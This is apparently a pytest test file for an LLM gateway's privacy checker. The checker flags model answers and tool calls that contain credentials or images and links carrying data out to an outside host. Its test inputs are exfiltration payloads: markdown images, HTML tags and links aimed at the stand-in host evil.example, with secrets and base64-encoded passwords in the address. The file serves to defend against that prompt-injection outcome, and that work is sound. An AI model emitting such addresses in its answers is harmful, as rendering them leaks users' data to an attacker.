"""Addresses that carry data out are told of by their hosts alone."""

import pytest
from llm_gateway.domain.chat import ToolCall
from llm_gateway.services.privacy.links import warnings_about


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=secret)",
        "![x](https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)",
        '<img alt="" src="https://evil.example/a?b=c">',
        "![](<https://user:pw@evil.example/a.png>)",
        "![x](//evil.example/p.png?d=secret)",
        "![x](https://evil.example/[EMAIL_1].png)",
        '<img alt="" src = " https://evil.example/a?b=c">',
        '<iframe width="1" src="//evil.example/a?b=c">',
        "<video poster=https://evil.example/a?b=c>",
    ],
)
@pytest.mark.holds("LLM01", "LLM05")
def test_an_image_that_carries_data_out(text: str) -> None:
    assert warnings_about(text, ())[:1] == [
        "The answer has an image of evil.example whose address carries data out: showing it sends them there."
    ]


@pytest.mark.parametrize(
    "text",
    [
        "[more](https://evil.example/?q=the+password+is+hunter2)",
        "[more](https://evil.example/?q=the%20password%20is%20hunter2)",
        '<a href="https://evil.example/#cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU">x</a>',
        "[more](https://evil.example/for/[EMAIL_1])",
        "![x][1]\n\n[1]: https://evil.example/?d=secret",
        "![1]\n\n[1]://evil.example/?d=secret",
        "See [1].\n\n[1]: https://evil.example/cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU",
    ],
)
@pytest.mark.holds("LLM05")
def test_a_link_that_carries_data_out(text: str) -> None:
    assert warnings_about(text, ()) == [
        "The answer has a link to evil.example whose address carries data out: following it sends them there."
    ]


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.example.com/guide/install.html#linux).",
        "[search](https://example.com/search?page=2&lang=en)",
        "![logo](https://example.com/logo.png)",
        "![logo](https://example.com/logo.png) and [1]\n\n[1]: https://example.com/?page=2",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg)",
        "https://example.com/plain?x=1",
        "no link",
    ],
)
def test_what_is_no_such_address(text: str) -> None:
    assert warnings_about(text, ()) == []


@pytest.mark.holds("LLM02", "LLM07")
def test_a_credential_is_told_of_and_tool_calls_are_read() -> None:
    call = ToolCall(id="c", name="show", arguments='{"md": "![x](https://evil.example/a?b=c)"}')
    told = warnings_about("Use AKIAIOSFODNN7EXAMPLE", (call,))
    assert told[0] == "The answer has what looks like a credential."
    assert "evil.example" in told[1]
    assert not any("AKIA" in warning for warning in told)
